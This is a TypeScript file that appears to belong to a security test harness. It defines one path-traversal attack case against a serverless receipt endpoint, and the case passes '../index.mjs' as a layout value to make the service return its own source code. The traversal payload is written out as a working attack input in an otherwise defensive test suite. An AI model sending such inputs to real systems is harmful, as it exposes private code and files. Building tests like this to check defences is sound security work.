import type { Attack } from "../attack.ts";
import { summary } from "../exchange.ts";
import { receiptTwin } from "./shared/receipt.ts";
import { receiptPath } from "./shared/requests.ts";

export const pathTraversalSource: Attack = {
  id: "path-traversal-source",
  title: "Read the function's own source by the receipt's layout (path traversal)",
  owasp: ["SAS-3", "CWE-22"],
  paper: "III.2.D",
  defences: ["function:receipt-layout"],
  operation: "getReceipt",
  target: "receipt",
  run: async (context) => {
    const headers = await context.session("alice");
    const path = receiptPath(context.seed.acme.orderId, { layout: "../index.mjs" });
    const answer = await context.send({ client: "alice", method: "GET", path, headers });
    const source = /[^\n]{0,20}createRequire[^\n]{0,60}/.exec(answer.response.body)?.[0];
    return {
      effect: source !== undefined,
      evidence: source ? `the receipt is the function's source: ${source.trim()}` : summary(answer),
    };
  },
  twin: (context) => receiptTwin(context, "alice", { layout: "compact" }, context.seed.acme.note),
};
